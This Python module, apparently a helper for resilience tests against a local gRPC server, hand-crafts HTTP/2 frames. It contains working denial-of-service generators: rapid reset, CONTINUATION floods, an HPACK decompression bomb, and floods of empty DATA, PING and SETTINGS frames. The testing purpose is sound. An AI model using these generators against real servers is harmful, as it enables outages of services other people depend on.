"""HTTP/2 by hand over TLS: frames that no well-behaved client sends, and what the other side makes of them."""

import select
import socket
import ssl
import struct
import time

import hpack
from hyperframe import frame

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
ENHANCE_YOUR_CALM = 11
COMPRESSION_ERROR = 9
PROTOCOL_ERROR = 1
# Attackers come from here; the honest caller comes from 127.0.0.1, and each address has a share of the connections.
FROM = "127.0.0.2"
PATIENCE_S = 10
# A peer that takes nothing for so long takes nothing any more.
STALLED_S = 2


def tls(address, ca, source=FROM):
    """A TLS connection that speaks HTTP/2, before the first byte of it."""
    host, port = address.rsplit(":", 1)
    context = ssl.create_default_context(cafile=ca)
    context.set_alpn_protocols(["h2"])
    plain = socket.create_connection((host, int(port)), timeout=PATIENCE_S, source_address=(source, 0))
    return context.wrap_socket(plain, server_hostname="localhost")


class Raw:
    """A connection on which every byte is ours to choose."""

    def __init__(self, address, ca, settings=None, reads=True):
        self.socket = tls(address, ca)
        self.socket.setblocking(False)
        self.encoder = hpack.Encoder()
        self.reads = reads
        self.received = b""
        self.closed = False
        self.stalled = False
        self.write(PREFACE + frame.SettingsFrame(0, settings=settings or {}).serialize())

    def headers(self, stream, more=(), flags=("END_HEADERS",), path="/focalpoint.v1.AccountService/WhoAmI"):
        """The HEADERS frame of a call, with more headers behind it."""
        block = self.encoder.encode(call(path) + list(more))
        return frame.HeadersFrame(stream, block, flags=list(flags)).serialize()

    def write(self, data):
        """Sends bytes, and reads what has come meanwhile; false when the other side has gone or takes no more."""
        view = memoryview(data)
        while view and not self.closed and not self.stalled:
            try:
                view = view[self.socket.send(view) :]
            except ssl.SSLWantWriteError:
                waits = [self.socket] if self.reads else []
                if not any(select.select(waits, [self.socket], [], STALLED_S)):
                    self.stalled = True
            except OSError:
                self.closed = True
            if self.reads:
                self.drain()
        return not self.closed and not self.stalled

    def drain(self):
        """Reads what is there."""
        while not self.closed:
            try:
                more = self.socket.recv(65536)
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
                return
            except OSError:
                more = b""
            self.received += more
            self.closed = not more

    def wait(self, seconds, until=lambda: False):
        """Reads until the other side has gone, what is waited for is true, or the time is over."""
        deadline = time.monotonic() + seconds
        self.drain()
        while not self.closed and not until() and (left := deadline - time.monotonic()) > 0:
            if not self.socket.pending():
                select.select([self.socket], [], [], left)
            self.drain()

    def frames(self):
        """The frames that came in whole."""
        found, at = [], 0
        while len(self.received) >= at + 9:
            one, length = frame.Frame.parse_frame_header(memoryview(self.received)[at : at + 9])
            if len(self.received) < at + 9 + length:
                break
            one.parse_body(memoryview(self.received)[at + 9 : at + 9 + length])
            found.append(one)
            at += 9 + length
        return found

    def statuses(self):
        """The HTTP status that each stream was answered with."""
        decoder, found = hpack.Decoder(), {}
        for one in self.frames():
            if isinstance(one, frame.HeadersFrame):
                headers = dict(decoder.decode(one.data))
                if ":status" in headers:
                    found[one.stream_id] = headers[":status"]
        return found

    def farewell(self):
        """The reason with which the other side ended the connection, if it did."""
        return next((one.error_code for one in self.frames() if isinstance(one, frame.GoAwayFrame)), None)

    def answers(self, seconds=PATIENCE_S):
        """Whether the other side still answers a ping."""
        self.write(frame.PingFrame(0, opaque_data=b"areuhere").serialize())

        def answered():
            pings = (one for one in self.frames() if isinstance(one, frame.PingFrame))
            return any("ACK" in one.flags and bytes(one.opaque_data) == b"areuhere" for one in pings)

        self.wait(seconds, answered)
        return answered()

    def close(self):
        """Leaves without a word."""
        self.socket.close()


def call(path):
    """The headers that a call begins with."""
    return [
        (":method", "POST"),
        (":scheme", "https"),
        (":authority", "localhost"),
        (":path", path),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]


def reset(stream):
    """Takes a stream back."""
    return frame.RstStreamFrame(stream, error_code=8).serialize()


def rapid_reset(raw):
    """Streams that are opened and taken back at once."""
    for stream in range(1, 40_001, 2):
        yield raw.headers(stream) + reset(stream)


def forced_resets(raw):
    """Streams that are opened well and then misused, so that the other side has to reset them."""
    for stream in range(1, 40_001, 2):
        yield raw.headers(stream) + frame.WindowUpdateFrame(stream, window_increment=2**31 - 1).serialize()


def endless_headers(raw):
    """A header block that goes on and on."""
    yield raw.headers(1, flags=())
    piece = raw.encoder.encode([("x-more", "y" * 4_000)], huffman=False)
    for _ in range(20_000):
        yield frame.ContinuationFrame(1, piece).serialize()


def empty_continuations(raw):
    """A header block that goes on with nothing."""
    yield raw.headers(1, flags=())
    for _ in range(2_000):
        yield frame.ContinuationFrame(1, b"").serialize() * 100


def unpacking(raw, times):
    """A large header in the table of the compression, and 50 blocks that name it so often, of one byte each time."""
    yield raw.headers(1, [("x-bomb", "y" * 3_900)], flags=("END_HEADERS", "END_STREAM"))
    # All of the head is in the static table, so what came last is still the first of the dynamic one.
    head = hpack.Encoder().encode([(":method", "POST"), (":scheme", "https"), (":path", "/")])
    for stream in range(3, 103, 2):
        yield frame.HeadersFrame(stream, head + b"\xbe" * times, flags=["END_HEADERS", "END_STREAM"]).serialize()


def header_bomb(raw):
    """Blocks of 16 KB that unpack to 63 MB each."""
    return unpacking(raw, 16_000)


def large_headers(raw):
    """Blocks that unpack to somewhat more than the limit."""
    return unpacking(raw, 5)


def broken_compression(raw):
    """A header of an index that there is not."""
    yield frame.HeadersFrame(1, b"\xff\xff\xff\xff\x0f", flags=["END_HEADERS"]).serialize()


def empty_data(raw):
    """A body that goes on with nothing."""
    yield raw.headers(1)
    for _ in range(5_000):
        yield frame.DataFrame(1, b"").serialize() * 100


def crumbs(raw):
    """A body of frames of one byte, which cost more than they hold."""
    yield raw.headers(1)
    # A message of 60,000 bytes is announced, and comes byte by byte.
    yield frame.DataFrame(1, struct.pack(">BI", 0, 60_000)).serialize()
    for _ in range(600):
        yield frame.DataFrame(1, b"x").serialize() * 100


def pings(raw):
    """Pings whose answers nobody reads."""
    for _ in range(20_000):
        yield frame.PingFrame(0, opaque_data=b"12345678").serialize() * 100


def settings(raw):
    """Settings whose acknowledgements nobody reads."""
    for _ in range(20_000):
        yield frame.SettingsFrame(0, settings={frame.SettingsFrame.HEADER_TABLE_SIZE: 4096}).serialize() * 100
